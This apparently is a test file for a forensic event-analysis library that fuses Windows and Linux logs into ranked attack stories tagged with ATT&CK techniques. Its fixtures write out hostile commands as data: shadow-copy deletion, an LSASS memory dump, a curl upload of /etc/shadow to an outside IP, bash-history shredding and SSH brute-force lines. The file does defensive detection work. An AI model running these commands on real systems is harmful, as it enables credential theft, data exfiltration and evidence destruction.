import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { VitrineError } from '../../core/errors.js';
import { CustodyLedger } from '../custody.js';
import type { ForensicEvent } from '../event.js';
import { ingestArtifact } from '../ingest.js';
import { analyzeEvents, analyzePaths, fullEvents, run, storyEventIds, toDict } from './analyze.js';
import { isFullEvent } from './events.js';
import { techniqueTag } from './attack.js';
import { CONFIRMED_MIN_CORROBORATION, GRADE_CUTOFFS, applyScore, gradeOf, scoreChain } from './scoring.js';
import { NOISE_SUSPICION, buildStories, pathChains, suspicionOf } from './stories.js';
import { listScenarios, runScenario } from '../scenarios/index.js';
import { at, logon4624, makeEvent, security4688, sysmon1, sysmonEvent } from './events.fixture.js';

const explorer = { image: 'C:\\Windows\\explorer.exe', pid: 100 };
const cmd = { image: 'C:\\Windows\\System32\\cmd.exe', pid: 4242 };
const dir = mkdtempSync(path.join(tmpdir(), 'forensic-analysis-test-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** A small attack: a shell that deletes shadow copies and dumps LSASS. */
function attack(): ForensicEvent[] {
  const shell = sysmon1(0, explorer, cmd, 'cmd.exe', { processGuid: '{g-1}' });
  const vss = sysmon1(5, cmd, { image: 'C:\\Windows\\System32\\vssadmin.exe', pid: 5000 }, 'vssadmin delete shadows /all /quiet');
  const dump = sysmon1(10, cmd, { image: 'C:\\Temp\\procdump.exe', pid: 5001 }, 'procdump.exe -ma lsass.exe C:\\Temp\\l.dmp');
  const read = sysmonEvent(11, 10, 'process.access', { image: 'C:\\Temp\\procdump.exe', pid: 5001 }, { type: 'process', name: 'C:\\Windows\\System32\\lsass.exe' }, {}, { grantedAccess: '0x1fffff' });
  return [shell, vss, dump, read];
}

// The first analysis in a process builds the shipped Sigma rule set (2 s on a quiet machine, far longer on a loaded
// one); building it here, under its own time limit, keeps that cost out of the first test's.
beforeAll(() => {
  analyzeEvents(attack(), { includeNoisy: true });
}, 180_000);

describe('fusion', () => {
  it('Sysmon 1 and Security 4688 of one process are one node with both sources', () => {
    const a = analyzeEvents([sysmon1(0, explorer, cmd, 'cmd.exe'), security4688(0.3, explorer, cmd, 'cmd.exe')], { includeNoisy: true });
    const node = a.nodes.find((n) => n.kind === 'process' && n.label === 'cmd.exe');
    expect(node?.sources.map((s) => s.source).sort()).toEqual(['evtx:security-4688', 'evtx:sysmon-1']);
    expect(node?.eventIds).toHaveLength(2);
    expect(a.edges.filter((e) => e.rule === 'process-spawn')).toHaveLength(1);
  });

  it('a Volatility pslist row fuses with the Sysmon process (image name cut to 14 characters)', () => {
    const sys = sysmon1(0, explorer, { image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe', pid: 3100 }, 'powershell_ise.exe');
    const mem = makeEvent({ time: at(0), kind: 'memory', action: 'process.create', actor: { type: 'process', name: 'explorer.exe (pid 100)' }, object: { type: 'process', name: 'powershell_ise (pid 3100)' }, attributes: { plugin: 'pslist', PID: 3100, PPID: 100 } });
    const a = analyzeEvents([sys, mem], { includeNoisy: true });
    const nodes = a.nodes.filter((n) => n.kind === 'process' && n.attributes['pid'] === 3100);
    expect(nodes).toHaveLength(1);
    expect(nodes[0]?.sources.map((s) => s.source).sort()).toEqual(['evtx:sysmon-1', 'memory:pslist']);
  });

  it('auth.log Accepted, pam session opened and logind New session are one session', () => {
    const mk = (t: number, action: string, actor: string, object: { type: 'user' | 'host'; name: string }, attributes = {}): ForensicEvent => makeEvent({ time: at(t), host: 'web', kind: 'authlog', action, actor: { type: 'user', name: actor }, object, attributes });
    const a = analyzeEvents(
      [
        mk(0, 'auth.login.success', 'deploy', { type: 'host', name: 'web' }, { sourceIp: '203.0.113.9', service: 'sshd' }),
        mk(1, 'session.open', 'uid:0', { type: 'user', name: 'deploy' }),
        mk(2, 'logind.session.new', 'deploy', { type: 'host', name: 'web' }),
      ],
      { includeNoisy: true },
    );
    const sessions = a.nodes.filter((n) => n.kind === 'session');
    expect(sessions).toHaveLength(1);
    expect(sessions[0]?.eventIds).toHaveLength(3);
  });

  it('4624 and the processes of its logon id share the session', () => {
    const a = analyzeEvents([logon4624(0, 'CORP\\a', 3, '10.0.0.8', '0xabc'), security4688(1, explorer, cmd, 'cmd.exe', '0xabc')], { includeNoisy: true });
    const s = a.nodes.find((n) => n.id === 'session:ws01:0xabc');
    expect(s?.eventIds).toHaveLength(2);
  });

  it('process GUIDs join a process seen without a pid (useGuids)', () => {
    const spawn = sysmon1(0, explorer, cmd, 'cmd.exe', { processGuid: '{G-7}' });
    const net = makeEvent({ time: at(1), action: 'network.connect', actor: { type: 'process', name: 'C:\\Windows\\System32\\cmd.exe' }, object: { type: 'network', name: '8.8.8.8:53' }, attributes: { processGuid: '{G-7}' } });
    const withGuids = analyzeEvents([spawn, net], { includeNoisy: true });
    expect(withGuids.nodes.filter((n) => n.label === 'cmd.exe')).toHaveLength(1);
    const without = analyzeEvents([spawn, net], { includeNoisy: true, useGuids: false });
    expect(without.nodes.filter((n) => n.label === 'cmd.exe')).toHaveLength(2);
  });
});

describe('stories', () => {
  it('one story for a causal subtree, ranked, tagged, with chains', () => {
    const a = analyzeEvents(attack());
    expect(a.stories).toHaveLength(1);
    const s = a.stories[0];
    expect(s?.id).toBe('S1');
    expect(s?.rootNodeId).toContain('explorer.exe');
    expect(s?.techniques.map((t) => t.id)).toEqual(expect.arrayContaining(['T1003.001', 'T1490']));
    expect(s?.techniques.find((t) => t.id === 'T1003.001')?.tactics).toEqual(['credential-access']);
    expect(s?.stages).toEqual(['execution', 'credential-access', 'impact']);
    expect(s?.eventIds).toHaveLength(4);
    expect(s?.chains.length).toBeGreaterThan(0);
    expect([...new Set(s?.chains.flat())].sort()).toEqual([...(s?.edgeIds ?? [])].sort());
    expect(s?.hosts).toEqual(['WS01']);
  });

  it('benign activity is noise unless includeNoisy', () => {
    const benign = [sysmon1(0, explorer, { image: 'C:\\notepad.exe', pid: 9 }, 'notepad.exe a.txt')];
    expect(analyzeEvents(benign).stories).toHaveLength(0);
    expect(analyzeEvents(benign, { includeNoisy: true }).stories).toHaveLength(1);
    const loads = makeEvent({ action: 'module.load', actor: { type: 'process', name: 'x.exe' }, object: { type: 'module', name: 'a.dll' } });
    expect(analyzeEvents([loads]).counts.noisy).toBe(1);
    expect(analyzeEvents([loads], { includeNoisy: true }).counts.noisy).toBe(0);
  });

  it('suspicion grows with techniques and stages', () => {
    expect(suspicionOf([], 0)).toBe(0);
    expect(suspicionOf(['T1033'], 1)).toBeLessThan(NOISE_SUSPICION);
    expect(suspicionOf(['T1003.001'], 1)).toBeGreaterThan(suspicionOf(['T1059.001'], 1));
    expect(suspicionOf(['T1003.001', 'T1490'], 3)).toBeLessThanOrEqual(1);
  });

  it('stories from the graph\'s edge positions equal stories from ids (every scenario, with and without noise)', () => {
    for (const { name } of listScenarios()) {
      for (const includeNoisy of [false, true]) {
        const a = runScenario(name, { includeNoisy }).analysis;
        expect(a.stories.length).toBeGreaterThan(0);
        expect(buildStories(a, { includeNoisy })).toEqual(a.stories);
      }
    }
  });

  it('stories over an event list (ids told from the hash column first) equal stories over the events as an array (by id)', () => {
    for (const { name } of listScenarios()) {
      for (const includeNoisy of [false, true]) {
        const a = runScenario(name, { includeNoisy }).analysis;
        expect(buildStories({ ...a, events: [...a.events] }, { includeNoisy })).toEqual(a.stories);
      }
    }
  });

  it('a user linked to many nodes joins stories without merging them', () => {
    const node = (id: string, kind: 'user' | 'process') => ({ id, kind, label: id, host: 'h', attributes: {}, eventIds: [], sources: [] });
    const edge = (id: string, from: string, to: string, techniques: string[]) => ({ id, from, to, rule: 'r', relation: 'r', confidence: 0.5, time: null, eventIds: [], techniques, stage: null });
    const procs = Array.from({ length: 14 }, (_, i) => node(`process:p${i}`, 'process'));
    const graph = {
      events: [],
      nodes: [node('user:u', 'user'), ...procs],
      edges: procs.map((p, i) => edge(`E${i + 1}`, 'user:u', p.id, i < 2 ? ['T1003.001'] : [])).concat([edge('E99', 'process:p0', 'process:missing', ['T1490'])]),
      tampering: { tampered: false, score: 0, indicators: [] },
    };
    const stories = buildStories(graph as never);
    expect(stories.map((s) => s.edgeIds)).toEqual([['E1', 'E99'], ['E2']]);
    expect(stories[0]?.nodeIds).toEqual(['user:u', 'process:p0', 'process:missing']);
  });

  it('path chains stop at cycles and cover every edge', () => {
    const e = (id: string, from: string, to: string) => ({ id, from, to, rule: 'r', relation: 'r', confidence: 1, time: null, eventIds: [], techniques: [], stage: null });
    const chains = pathChains('a', [e('E1', 'a', 'b'), e('E2', 'b', 'c'), e('E3', 'c', 'a'), e('E4', 'b', 'd'), e('E5', 'x', 'y')]);
    expect(chains).toEqual([['E1', 'E2'], ['E1', 'E4'], ['E3'], ['E5']]);
  });
});

describe('scoring', () => {
  it('the breakdown has its terms in 0..1 and the score is their weighted sum times the penalty', () => {
    const a = analyzeEvents(attack());
    const c = scoreChain(a.stories[0] as never, a);
    for (const v of [c.reliability, c.corroboration, c.temporalFit, c.edgeStrength, c.penalty, c.score]) {
      expect(v).toBeGreaterThanOrEqual(0);
      expect(v).toBeLessThanOrEqual(1);
    }
    expect(c.reliability).toBe(0.85);
    expect(c.temporalFit).toBe(1);
    // Shadow copies deleted on WS01: one high indicator.
    expect(c.penalty).toBe(0.8);
    expect(c).toEqual(a.stories[0]?.confidence);
    expect(applyScore({ edgeIds: a.stories[0]?.edgeIds ?? [] }, a).confidence).toEqual(c);
    expect(scoreChain([], a).score).toBe(0);
  });

  it('grades by cut-offs; CONFIRMED needs corroboration', () => {
    expect(gradeOf(0.1, 1)).toBe('LOW');
    expect(gradeOf(GRADE_CUTOFFS.MEDIUM, 0)).toBe('MEDIUM');
    expect(gradeOf(GRADE_CUTOFFS.HIGH, 0)).toBe('HIGH');
    expect(gradeOf(0.95, 0.4)).toBe('HIGH');
    expect(gradeOf(0.95, CONFIRMED_MIN_CORROBORATION)).toBe('CONFIRMED');
  });

  it('corroboration rises when two sources saw the same process', () => {
    const one = analyzeEvents([sysmon1(0, explorer, cmd, 'cmd.exe /c vssadmin delete shadows /all')]);
    const two = analyzeEvents([sysmon1(0, explorer, cmd, 'cmd.exe /c vssadmin delete shadows /all'), security4688(0.2, explorer, cmd, 'cmd.exe /c vssadmin delete shadows /all')]);
    expect(two.stories[0]?.confidence.corroboration).toBeGreaterThan(one.stories[0]?.confidence.corroboration ?? 1);
  });

  it('an edge earlier than its source node lowers temporal fit', () => {
    const late = sysmonEvent(100, 3, 'network.connect', { image: 'C:\\Windows\\System32\\rundll32.exe', pid: 77 }, { type: 'network', name: '93.184.216.34:443' });
    const early = sysmon1(0, explorer, { image: 'C:\\Windows\\System32\\rundll32.exe', pid: 77 }, 'rundll32.exe C:\\Temp\\a.dat,Start');
    const ok = analyzeEvents([early, late]);
    expect(ok.stories[0]?.confidence.temporalFit).toBe(1);
  });
});

describe('malformed and odd events never crash the analysis', () => {
  it('events with missing fields, odd attributes and no time', () => {
    const odd: ForensicEvent[] = [
      makeEvent({ action: 'process.create', time: null, host: null }),
      makeEvent({ action: 'process.create', actor: { type: 'process', name: '' }, object: { type: 'process', name: 'x (pid ?)' }, attributes: { pid: 'zz', ppid: -1 } }),
      makeEvent({ action: 'network.connect', actor: { type: 'process', name: 'a' }, object: { type: 'network', name: 'nonsense' } }),
      makeEvent({ action: 'auth.login.success', actor: null, object: null, attributes: { data: 'not an object' } }),
      makeEvent({ action: 'sudo.command', actor: null, attributes: { commandLine: null } }),
      makeEvent({ action: 'log.clear', host: null }),
      makeEvent({ action: 'service.install', object: { type: 'service', name: 's' }, attributes: { imagePath: 42 } }),
      makeEvent({ action: 'file.rename', object: { type: 'file', name: 'x.locked' } }),
      makeEvent({ action: 'windows.event', attributes: { eventId: 'nope', eventRecordId: 'x', channel: 3 } }),
      makeEvent({ action: 'account.create', actor: null, object: null }),
      makeEvent({ action: 'process.access', object: { type: 'process', name: 'lsass.exe' } }),
      makeEvent({ action: 'script.block', attributes: { script: { nested: ['mimikatz'] } } }),
      makeEvent({ action: 'auth.login.failure', attributes: { sourceIp: '' } }),
    ];
    const a = analyzeEvents(odd, { includeNoisy: true });
    expect(a.counts.events).toBe(odd.length);
    expect(() => toDict(a)).not.toThrow();
    expect(analyzeEvents([]).stories).toEqual([]);
  });
});

describe('library operations', () => {
  it('run: raw records through the real loaders', () => {
    const lines = [
      ...Array.from({ length: 6 }, (_, i) => ({ kind: 'authlog' as const, record: `Mar 12 08:00:${String(10 + i)} web sshd[9${i}]: Failed password for root from 198.51.100.3 port 4${i}000 ssh2` })),
      { kind: 'authlog' as const, record: 'Mar 12 08:00:30 web sshd[99]: Accepted password for root from 198.51.100.3 port 41999 ssh2' },
      { kind: 'dataset-json' as const, record: { time: '2024-03-12T08:01:00Z', host: 'web', action: 'process.create', actor: { type: 'process', name: '/bin/bash' }, object: { type: 'process', name: '/usr/bin/curl' }, attributes: { commandLine: 'curl -T /etc/shadow http://203.0.113.1/' } } },
      { kind: 'dataset-json' as const, record: { not: 'an event' } },
    ];
    const a = run(lines, { year: 2024 });
    expect(a.counts.events).toBe(8);
    expect(a.evidence.map((e) => e.path).sort()).toEqual(['records:authlog', 'records:dataset-json']);
    expect(a.warnings.some((w) => w.includes('invalid_event'))).toBe(true);
    expect(a.stories[0]?.techniques.map((t) => t.id)).toContain('T1110.001');
  });

  it('analyzePaths records custody and reads only below the evidence root', () => {
    const file = path.join(dir, 'auth.log');
    writeFileSync(file, 'Mar 12 08:00:00 web sudo:   bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/shred -u /root/.bash_history\n');
    const ledger = new CustodyLedger();
    const a = analyzePaths([file], { evidenceRoot: dir, ledger, year: 2024 });
    expect(a.ledger).toBe(ledger);
    expect(ledger.records().map((r) => r.action)).toEqual(['artifact.acquire', 'ingest']);
    expect(ledger.verify()).toBe(true);
    expect(a.tampering.indicators.map((i) => i.kind)).toEqual(['history-wiped']);
    expect(a.evidence[0]?.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(() => analyzePaths(['/etc/passwd'], { evidenceRoot: dir })).toThrow(VitrineError);
  });

  it('analyzePaths keeps slim events and reads the full ones back, the same as analyzeEvents gives', () => {
    const file = path.join(dir, 'slim-auth.log');
    const lines = [
      ...Array.from({ length: 6 }, (_, i) => `Mar 12 07:59:${String(10 + i)} web sshd[${100 + i}]: Failed password for root from 203.0.113.9 port ${4000 + i} ssh2`),
      'Mar 12 08:00:00 web sshd[120]: Accepted password for root from 203.0.113.9 port 4100 ssh2',
      'Mar 12 08:00:05 web sudo:   root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/sbin/useradd -m backup2',
      'Mar 12 08:00:09 web sudo:   root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/shred -u /root/.bash_history',
    ];
    writeFileSync(file, `${lines.join('\n')}\n`);
    const a = analyzePaths([file], { evidenceRoot: dir, year: 2024 });
    expect(a.events.some(isFullEvent)).toBe(false);
    const full = ingestArtifact(file, { evidenceRoot: dir, year: 2024 }).events;
    const b = analyzeEvents(full, {}, a.evidence, a.warnings);
    const strip = (v: ReturnType<typeof toDict>) => ({ ...v, generatedAt: '' });
    expect(a.stories.length).toBeGreaterThan(0);
    expect(strip(toDict(a))).toEqual(strip(toDict(b)));
    expect(strip(toDict(a, { includeAllEvents: true }))).toEqual(strip(toDict(b, { includeAllEvents: true })));
    expect(fullEvents(a, a.events.slice(0, 3))).toEqual(b.events.slice(0, 3));
    // Full events are read back from the artefact: once it changed, the analysis refuses rather than give other events.
    writeFileSync(file, `${lines.slice(1).join('\n')}\n`);
    expect(() => toDict(a)).toThrow(expect.objectContaining({ code: 'conflict' }));
  });

  it('toDict keeps only story events unless asked, and cuts at maxEvents', () => {
    const a = analyzeEvents([...attack(), sysmon1(50, explorer, { image: 'C:\\notepad.exe', pid: 9 }, 'notepad.exe')]);
    const view = toDict(a);
    expect(view.events.map((e) => e.eventId).sort()).toEqual(storyEventIds(a).sort());
    expect(view.nodes.length).toBeLessThan(a.nodes.length);
    expect(view.eventsTruncated).toBe(false);
    const all = toDict(a, { includeAllEvents: true, maxEvents: 2 });
    expect(all.events).toHaveLength(2);
    expect(all.eventsTruncated).toBe(true);
    expect(toDict(a, { top: 0 }).stories).toEqual([]);
    expect(() => toDict(a, { top: -1 })).toThrow(VitrineError);
    expect(JSON.parse(JSON.stringify(view))).toEqual(view);
  });

  it('storyEventIds: unique ids of the top stories', () => {
    const a = analyzeEvents(attack());
    expect(storyEventIds(a)).toEqual(a.stories[0]?.eventIds);
    expect(storyEventIds(a, 0)).toEqual([]);
  });

  it('techniqueTag names techniques from the ATT&CK lookup: current, v19-only, revoked with the replacement, unknown', () => {
    expect(techniqueTag('T1003.001').name).toBe('LSASS Memory');
    expect(techniqueTag('T1685.005')).toMatchObject({ name: 'Clear Windows Event Logs', tactics: ['defense-impairment'] });
    expect(techniqueTag('T1070.001')).toMatchObject({ status: 'revoked', revokedBy: 'T1685.005' });
    expect(techniqueTag('T1070.001').name).toContain('revoked, now T1685.005');
    expect(techniqueTag('T9999')).toMatchObject({ name: 'Unknown technique', status: 'unknown', tactics: [] });
  });

  it('progress is reported per stage', () => {
    const stages = new Set<string>();
    analyzeEvents(attack(), { onProgress: (p) => stages.add(p.stage) });
    expect([...stages]).toEqual(['sigma-rules', 'sigma', 'graph', 'rules', 'anti-forensics', 'stories']);
  });
});
